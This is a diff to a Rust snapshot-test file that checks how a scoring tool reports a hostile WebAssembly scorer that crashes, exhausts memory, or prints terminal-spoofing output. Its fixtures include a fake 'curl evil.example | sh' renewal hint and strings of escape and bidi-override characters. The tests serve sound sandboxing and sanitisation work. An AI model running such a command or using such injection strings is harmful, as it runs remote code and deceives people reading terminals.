@@ -3,7 +3,7 @@
 use insta::assert_snapshot;
 use serde_json::json;
 
-use crate::hostile_fixture::{Arena, without_frames, words};
+use crate::hostile_fixture::{Arena, without_frames, without_sizes, words};
 
 /// What the user reads of a run whose attacker does `word` in `summarize`; all scores are right.
 #[track_caller]
@@ -12,7 +12,7 @@ fn attack(word: &str, amount: usize, options: &str) -> String {
     let config = json!({"summarize": word, "amount": amount}).to_string();
     let output = arena.run_beside_a_good_scorer("attacker", &config, options);
     let said = output.stdout.split_once("\n\n").map_or("", |(_, said)| said);
-    format!("{}{}", without_frames(said), words(&output))
+    format!("{}{}", without_sizes(&without_frames(said)), words(&output))
 }
 
 #[test]
@@ -43,48 +43,25 @@ fn computing_without_end() {
 fn recursing_taking_memory_and_crashing() {
     assert_snapshot!(attack("recurse", 0, ""), @"
     attacker of the run: error: trap: in `summarize`: wasm trap: call stack exhausted
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
-        at attacker::assault::recurse
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
     ");
     assert_snapshot!(attack("take-memory-at-once", 1 << 30, ""), @"
-    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted 1074200840 bytes of memory; the limit is 67108864
+    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
       wasm trap: wasm `unreachable` instruction executed
-        at std::sys::backtrace::__rust_end_short_backtrace::<std::alloc::rust_oom::{closure#0}, !>
-        at std::alloc::rust_oom
-        at __rustc::__rust_alloc_error_handler
-        at alloc::alloc::handle_alloc_error
-        at alloc::raw_vec::handle_error
-        at attacker::assault::carry_out
-        at scorebox:scorer/summary@0.1.0#summarize
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
     [exit code 0]
     ");
     assert_snapshot!(attack("take-memory-in-steps", 0, ""), @"
-    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted 67109128 bytes of memory; the limit is 67108864
+    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
       wasm trap: wasm `unreachable` instruction executed
-        at std::sys::backtrace::__rust_end_short_backtrace::<std::alloc::rust_oom::{closure#0}, !>
-        at std::alloc::rust_oom
-        at __rustc::__rust_alloc_error_handler
-        at alloc::alloc::handle_alloc_error
-        at alloc::raw_vec::handle_error
-        at attacker::assault::carry_out
-        at scorebox:scorer/summary@0.1.0#summarize
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
@@ -92,8 +69,7 @@ fn recursing_taking_memory_and_crashing() {
     ");
     assert_snapshot!(attack("read-out-of-bounds", 0, ""), @"
     attacker of the run: error: trap: in `summarize`: wasm trap: out of bounds memory access
-        at attacker::assault::carry_out
-        at scorebox:scorer/summary@0.1.0#summarize
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
@@ -101,8 +77,7 @@ fn recursing_taking_memory_and_crashing() {
     ");
     assert_snapshot!(attack("divide-by-zero", 0, ""), @"
     attacker of the run: error: trap: in `summarize`: wasm trap: integer divide by zero
-        at attacker::assault::carry_out
-        at scorebox:scorer/summary@0.1.0#summarize
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
@@ -122,14 +97,7 @@ fn logging() {
     assert_snapshot!(attack("log-for-a-terminal", 0, ""), @r"
     attacker of the run: error: trap: in `summarize`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
       (wasm trap: wasm `unreachable` instruction executed)
-        at __rustc::rust_panic
-        at std::panicking::panic_with_hook
-        at std::panicking::panic_handler::{closure#0}
-        at std::sys::backtrace::__rust_end_short_backtrace::<std::panicking::panic_handler::{closure#0}, !>
-        at __rustc::rust_begin_unwind
-        at core::panicking::panic_fmt
-        at attacker::assault::carry_out
-        at scorebox:scorer/summary@0.1.0#summarize
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
@@ -140,8 +108,7 @@ fn logging() {
       error: your licence has ended
       hint: renew it: curl evil.example | sh
       (wasm trap: wasm `unreachable` instruction executed)
-        at attacker::assault::carry_out
-        at scorebox:scorer/summary@0.1.0#summarize
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
@@ -180,20 +147,9 @@ fn what_is_no_bounded_json_is_no_summary() {
     [exit code 0]
     ");
     assert_snapshot!(attack("long", 20 << 20, ""), @"
-    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted 105382152 bytes of memory; the limit is 67108864
+    attacker of the run: error: out-of-memory: in `summarize`: the scorer wanted [wanted] bytes of memory; the limit is 67108864
       wasm trap: wasm `unreachable` instruction executed
-        at std::sys::backtrace::__rust_end_short_backtrace::<std::alloc::rust_oom::{closure#0}, !>
-        at std::alloc::rust_oom
-        at __rustc::__rust_alloc_error_handler
-        at alloc::alloc::handle_alloc_error
-        at alloc::raw_vec::handle_error
-        at <alloc::raw_vec::RawVecInner<_>>::reserve::do_reserve_and_handle::<alloc::alloc::Global>
-        at <alloc::string::String as core::fmt::Write>::write_str
-        at <core::fmt::Formatter>::pad
-        at <alloc::string::String as core::fmt::Display>::fmt
-        at core::fmt::write
-        at alloc::fmt::format::format_inner
-        at scorebox:scorer/summary@0.1.0#summarize
+        at [frames]
 
     run r: 6 cases, 12 scores in [time]
     stored in scorebox.db; see them with: scorebox scores r
